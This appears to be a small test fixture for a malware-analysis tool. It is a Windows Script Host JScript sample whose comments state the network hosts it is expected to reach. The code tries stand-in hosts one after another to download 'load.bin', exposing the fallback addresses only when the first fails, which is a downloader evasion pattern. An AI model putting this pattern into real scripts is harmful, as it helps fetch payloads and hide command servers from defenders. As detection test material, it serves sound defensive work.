// persona: wsh
// answers: http=not_found
// reaches: network second.example
// reaches: network third.example
// trick: shows its other addresses only when the first does not answer
// names: api MSXML2.XMLHTTP
var addresses = ["first", "second", "third"], request = new ActiveXObject("MSXML2.XMLHTTP");
for (var i = 0; i < addresses.length; i++) {
  request.open("GET", "http://" + addresses[i] + ".example/load.bin", false);
  request.send();
  if (request.status == 200) break;
}
